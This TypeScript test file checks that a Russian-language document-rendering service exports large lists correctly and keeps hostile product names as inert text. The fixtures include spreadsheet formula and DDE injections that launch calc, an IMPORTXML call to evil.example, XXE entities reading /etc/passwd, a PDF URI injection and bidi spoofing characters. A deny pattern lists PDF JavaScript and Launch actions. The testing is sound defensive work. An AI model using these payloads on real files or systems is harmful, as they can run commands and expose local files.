import { randomUUID } from "node:crypto";
import jsqrModule from "jsqr";
import sharp from "sharp";
import { beforeAll, describe, expect, test } from "vitest";
import { importTool } from "../../../scripts/side-packages.ts";
import { User } from "../../../src/db/entities/accounts/user.ts";
import { amountInWords } from "../../../src/services/documents/kinds/amount-in-words.ts";
import { documentKinds, sourceOf } from "../../../src/services/documents/kinds/index.ts";
import type { Cell } from "../../../src/services/documents/kinds/layout.ts";
import { renderContent } from "../../../src/workers/documents/render.ts";
import { writeXlsx } from "../../../src/workers/documents/writers/xlsx.ts";
import { useDatabase } from "../../support/database.ts";
import { addOffer, addOrder, addWaybill } from "../../support/goods.ts";
import { bytesOf, readCsv } from "../../support/office.ts";
import { dangerous, listOf, payee } from "../../support/printouts.ts";
import { officeMs, pdfText, readers, useFolder } from "../../support/readers.ts";
import { elementsOf, parseXml, textOf } from "../../support/xml.ts";

// Its types do not know how it is exported.
const jsqr = jsqrModule as unknown as typeof jsqrModule.default;

const folder = useFolder();

/** The part of exceljs that reads. */
interface Exceljs {
  default: {
    Workbook: new () => {
      xlsx: {
        readFile(path: string): Promise<{ worksheets: { eachRow(see: (row: { values: unknown }) => void): void }[] }>;
      };
    };
  };
}

describe("a list of 100,000 rows", () => {
  const count = 100_000;
  const titles = ["Название", "Номер", "Кроссы", "Цена"];
  const rowOf = (n: number): Cell[] => [
    `Фильтр «Ёлка» ${n % 7 ? n : "<&>"}`,
    `00${(n * 104_729) % 1_000_003}`,
    `${n}A, "${n}B"`,
    (n * 7_919) % 90_001,
  ];
  function* rows() {
    for (let n = 1; n <= count; n++) yield rowOf(n);
  }
  /** The first row that another program reads in another way than it was written. */
  const firstOther = (found: readonly (readonly unknown[])[]) => {
    const at = found.findIndex((row, n) => row.join("\t") !== (n === 0 ? titles : rowOf(n)).join("\t"));
    return at < 0 ? null : { row: at, found: found[at] };
  };
  let path = "";
  beforeAll(async () => {
    [path = ""] = await folder.put({ "list.xlsx": await bytesOf(writeXlsx(listOf(rows(), titles).layout)) });
  });

  test(
    "is read back by exceljs, all values equal",
    async () => {
      // Its streaming reader cuts letters in two at the ends of chunks.
      const { default: exceljs } = await importTool<Exceljs>("exceljs");
      const { worksheets } = await new exceljs.Workbook().xlsx.readFile(path);
      const found: unknown[][] = [];
      worksheets[0]?.eachRow(({ values }) => found.push((values as unknown[]).slice(1)));
      expect(found).toHaveLength(count + 1);
      expect(found[5]?.map((value) => typeof value)).toEqual(["string", "string", "string", "number"]);
      expect(firstOther(found)).toBeNull();
    },
    officeMs,
  );

  test.runIf(readers.soffice)(
    "is opened by LibreOffice, all values equal (skipped where it is not installed)",
    async () => {
      // Separated by commas, quoted, UTF-8, every sheet, values as they are (LibreOffice help, CSV filter parameters).
      const filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1";
      const [saved] = Object.values(await folder.resave([path], filter));
      const found = readCsv(Buffer.from(String(saved).replaceAll(/\r?\n/g, "\r\n")));
      expect(found).toHaveLength(count + 1);
      expect(firstOther(found)).toBeNull();
    },
    officeMs,
  );
});

test.runIf(readers.soffice)(
  "part numbers that look like numbers or dates stay as they are in XLSX (skipped without LibreOffice)",
  async () => {
    const numbers = ["0986424797", "1E5", "1-2", "01.02.2024", "12345678901234567890"];
    const list = await bytesOf(writeXlsx(listOf(numbers.map((number) => [number, 1])).layout));
    const [saved] = Object.values(await folder.resave(await folder.put({ "numbers.xlsx": list }), "csv"));
    expect(readCsv(Buffer.from(String(saved).replaceAll(/\r?\n/g, "\r\n"))).map(([number]) => number)).toEqual([
      expect.any(String),
      ...numbers,
    ]);
  },
  officeMs,
);

describe("names that want to be more than text, in every kind and format", () => {
  const db = useDatabase();
  const day = "2026-11-22";
  const names = [
    ...dangerous,
    `=cmd|' /C calc'!A0`,
    `=DDE("cmd";"/C calc";"x")`,
    '=IMPORTXML("http://evil.example";"//a")',
    '=HYPERLINK("file:///etc/passwd","x")',
    "{=1+1}",
    "_x003D_1+1",
    "]]><x/><![CDATA[",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "&lt;b&gt; & < > \" ' <!-- ?>",
    "a\u0001\u0008\u000b\u001f\u007f\u0085b",
    "a\ufffe\uffffb",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "🚗 машина",
    "\\) Tj /URI (http://evil.example) endstream",
  ];
  const squeezed = (text: string) => text.replaceAll(/[\p{Cc}\ufffe\uffff\u202a-\u202e\u2066-\u2069]|\s/gu, "");
  /** What is to be seen of each: without control characters, and spaces as the program likes them. */
  const shown = names.map(squeezed);
  const files: Record<string, Buffer> = {};
  let paths: Record<string, string> = {};

  beforeAll(async () => {
    const author = randomUUID();
    await db.manager.insert(User, { id: author, email: "a@test.example", firstName: "=1+1", lastName: "@SUM(1)" });
    const lines = [];
    for (const name of names) {
      const own = { product: { name, crossNumber: name }, offer: { brand: name, manufacturerNumber: name, sku: name } };
      const { offer } = await addOffer(db, { ...own, offer: { ...own.offer, internalDescription: name } });
      lines.push({ offer, quantity: 2, priceRub: 717 });
    }
    const order = (await addOrder(db, lines)).id;
    const waybill = (await addWaybill(db, lines, { authorId: author, customerId: author })).id;
    await db.query("UPDATE waybills SET is_pending = false, committed_at = $1, committed_by = $2", [
      `${day}T10:00:00Z`,
      author,
    ]);
    const parameters: Record<(typeof documentKinds)[number]["kind"], object> = {
      order: { id: order },
      invoice: { id: order },
      waybill: { id: waybill },
      "price-list": { type: "wholesale", day },
      "stock-report": { day },
      "sales-report": { from: day, to: day },
      feed: {},
    };
    const shop = { payee: { ...payee, name: "=1+1" }, publicUrl: (key: string) => `https://files.test/${key}` };
    for (const { kind, formats } of documentKinds) {
      for (const format of formats) {
        const { content } = await sourceOf(db.manager, { kind, format, parameters: parameters[kind] } as never, shop);
        files[`${kind}-${format}.${format}`] = await bytesOf(renderContent(await content(), format, () => undefined));
      }
    }
    const all = await folder.put(files);
    paths = Object.fromEntries(Object.keys(files).map((name, n) => [name, String(all[n])]));
  });
  const named = (pattern: RegExp) => Object.keys(files).filter((name) => pattern.test(name));
  const pathsOf = (pattern: RegExp) => named(pattern).map((name) => String(paths[name]));

  test.runIf(readers.xmllint)("are well-formed XML (skipped where xmllint is not installed)", async () => {
    const wanted = named(/\.(docx|xlsx|xml)$/).map((name) => [name, files[name] as Buffer]);
    expect(wanted).toHaveLength(3 * 2 + 3 + 1);
    expect(await folder.complaints(Object.fromEntries(wanted))).toBe("");
    expect(await folder.complaints({ "broken.xml": Buffer.from("<a>&</a>") })).toContain("broken.xml");
  });

  test.runIf(readers.soffice)(
    "are texts in LibreOffice, neither formulas nor links (skipped where it is not installed)",
    async () => {
      const flat = "fods:OpenDocument Spreadsheet Flat XML";
      const sheets = {
        ...(await folder.resave(pathsOf(/\.xlsx$/), flat)),
        // Separated by commas, quoted, UTF-8: what a dialogue asks for elsewhere.
        ...(await folder.resave(pathsOf(/\.csv$/), flat, "CSV:44,34,UTF8")),
      };
      expect(Object.keys(sheets)).toHaveLength(3 + 3 + 1);
      for (const [name, saved] of Object.entries(sheets)) {
        const cells = elementsOf(parseXml(saved.toString()), "table:table-cell");
        const live = cells.filter(({ attributes }) => "table:formula" in attributes);
        expect([name, live]).toEqual([name, []]);
        const texts = new Set(cells.map((cell) => squeezed(textOf(cell)).replace(/^'/, "")));
        expect([name, shown.filter((one) => !texts.has(one))]).toEqual([name, []]);
      }
      for (const [name, saved] of Object.entries(await folder.resave(pathsOf(/\.docx$/), "fodt"))) {
        const root = parseXml(saved.toString());
        const live = ["text:a", "text:dde-connection", "text:database-display", "script:event-listener"];
        expect([name, live.flatMap((one) => elementsOf(root, one))]).toEqual([name, []]);
        const texts = new Set(elementsOf(root, "table:table-cell").map((cell) => squeezed(textOf(cell))));
        expect([name, shown.filter((one) => !texts.has(one))]).toEqual([name, []]);
      }
    },
    2 * officeMs,
  );

  test.runIf(readers.pdftotext)("are texts in PDFs (skipped where poppler is not installed)", async () => {
    // Marks that turn the direction are followed, not printed.
    const plain = shown.filter((name) => !/[\u202e\u2066]/.test(name));
    for (const name of named(/\.pdf$/)) {
      const text = squeezed(await pdfText(String(paths[name])));
      expect([name, plain.filter((one) => !text.includes(one))]).toEqual([name, []]);
      // What is in a stream is compressed, and has every pair of letters now and then.
      const objects = files[name]?.toString("latin1").replaceAll(/stream\r?\n[\s\S]*?endstream/g, "");
      expect(objects).toMatch(/\/Type \/Catalog\b/);
      expect(objects).not.toMatch(/\/(URI|JS|JavaScript|Launch|AA|OpenAction|GoToR)\b/);
    }
  });

  test.runIf(readers.pdftotext)(
    "leave totals and Cyrillic as they are (skipped where poppler is not installed)",
    async () => {
      const total = names.length * 2 * 717;
      const text = (await pdfText(String(paths["order-pdf.pdf"]))).replaceAll(/[\s\u00a0]+/g, " ");
      expect(text).toContain(`Итого ${String(total).replace(/(?=\d{3}$)/, " ")} руб.`);
      expect(text).toContain(`Сумма заказа: ${amountInWords(total)}`);
    },
  );

  test.runIf(readers.pdftoppm)(
    "leave the code of an invoice readable (skipped where poppler is not installed)",
    async () => {
      const codes: string[] = [];
      for (const png of await folder.pages(String(paths["invoice-pdf.pdf"]), 150)) {
        const { data, info } = await sharp(png).ensureAlpha().raw().toBuffer({ resolveWithObject: true });
        const code = jsqr(new Uint8ClampedArray(data), info.width, info.height);
        if (code) codes.push(Buffer.from(code.binaryData).toString("utf8"));
      }
      expect(codes).toEqual([expect.stringMatching(/^ST00012\|Name==1\+1\|PersonalAcc=\d{20}\|.*\|Sum=\d+00$/)]);
    },
  );
});
